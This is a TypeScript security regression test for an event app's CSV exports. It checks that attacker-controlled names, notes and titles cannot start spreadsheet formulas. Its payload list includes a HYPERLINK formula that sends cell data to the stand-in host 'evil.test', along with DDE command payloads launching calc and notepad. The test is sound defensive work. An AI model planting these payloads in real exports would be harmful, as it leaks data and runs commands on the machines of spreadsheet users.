/**
 * CSV (spreadsheet formula) injection in every CSV export — OWASP API8 (misconfiguration, unsafe output) and the
 * downstream-consumer side of API10: the organiser's spreadsheet trusts what the API exports.
 *
 * The exports are found in the app (every route whose path ends in `.csv`), so a new export must come with its recipe
 * here or this test fails. Attackers are the people whose text lands in an export: a participant's own first and last
 * name, a staff note on an attendance record, an exhibitor's note on a lead, a session title. Each payload starts with
 * one of = + - @ TAB CR; in the file, no text cell may start with one of those (numbers such as a negative latitude
 * are numbers, not formulas), and each payload is still there, behind a single quote.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { bearer, createMember, createRoom, createSession, createWorld, type World } from '../helpers/factories';
import { listRoutes } from '../helpers/routes';
import { binary } from '../helpers/requests';
import { bootTestApp, type TestApp } from '../helpers/test-app';

const PAYLOADS = [
  '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

describe('CSV formula injection', () => {
  let t: TestApp;
  let w: World;
  before(async () => {
    t = await bootTestApp();
    w = await createWorld(t);
  });
  after(() => t.close());

  /** Builds the attack data of each export and returns its URL and token. */
  const recipes: Record<string, () => Promise<{ url: string; token: string }>> = {
    'GET /api/events/{id}/attendance.csv': async () => {
      const session = await createSession(t, w.event.id, await createRoom(t, w.event.id), { title: PAYLOADS[0] });
      for (const [i, payload] of PAYLOADS.entries()) {
        const m = await createMember(t, w.event.id);
        // The victim names themselves: a participant controls their own first and last name.
        const named = await t.http
          .patch('/api/auth/profile')
          .set(bearer(m.token))
          .send({ first_name: payload, last_name: payload });
        assert.equal(named.status, 200, named.text);
        const marked = await t.http
          .post(`/api/events/${w.event.id}/attendees`)
          .set(bearer(w.tokens.gestionnaire_des_salles))
          .send({ participant_id: m.participant.id, note: payload, ...(i === 0 ? { session_id: session } : {}) });
        assert.ok(marked.status === 201 || marked.status === 200, marked.text);
      }
      return { url: `/api/events/${w.event.id}/attendance.csv?bom=true`, token: w.tokens.organisateur };
    },
    'GET /api/exposant/scans.csv': async () => {
      for (const payload of PAYLOADS) {
        const m = await createMember(t, w.event.id);
        await t.http
          .patch('/api/auth/profile')
          .set(bearer(m.token))
          .send({ first_name: payload, last_name: payload })
          .expect(200);
        await t.http
          .patch('/api/participants/me')
          .set(bearer(m.token))
          .send({ share_contact_with_exhibitors: true })
          .expect(200);
        const lead = await t.http
          .post('/api/exposant/scan')
          .set(bearer(w.tokens.exposant))
          .send({ qr_data: m.qr, notes: payload });
        assert.equal(lead.status, 201, lead.text);
      }
      return { url: '/api/exposant/scans.csv', token: w.tokens.exposant };
    },
  };

  it('every CSV export of the app has an attack recipe here', () => {
    const exports = listRoutes(t.app)
      .filter((r) => r.path.endsWith('.csv'))
      .map((r) => `${r.method} ${r.path}`);
    assert.ok(exports.length >= 2);
    assert.deepEqual(exports.sort(), Object.keys(recipes).sort());
  });

  for (const [route, recipe] of Object.entries(recipes)) {
    it(`${route}: no text cell starts a formula; every payload is kept behind a quote`, async () => {
      const { url, token } = await recipe();
      const res = await t.http.get(url).set(bearer(token)).buffer(true).parse(binary);
      assert.equal(res.status, 200);
      const text = (res.body as Buffer).toString('utf8').replace(/^\uFEFF/, '');
      const rows = parse(text, { relax_column_count: false }) as string[][];
      assert.ok(rows.length > PAYLOADS.length, `rows: ${rows.length}`);
      const cells = rows.slice(1).flat();
      const dangerous = cells.filter((c) => FORMULA_START.test(c) && !NUMBER.test(c));
      assert.deepEqual(dangerous, []);
      for (const payload of PAYLOADS) {
        // Names are stored trimmed: a leading TAB or CR is gone, and the = behind it must be quoted in turn.
        const stored = payload.trim();
        assert.ok(
          cells.some((c) => c === `'${stored}` || c === `'${payload}` || c.startsWith(`'${stored} `)),
          `${JSON.stringify(payload)} is kept, quoted`,
        );
      }
    });
  }
});
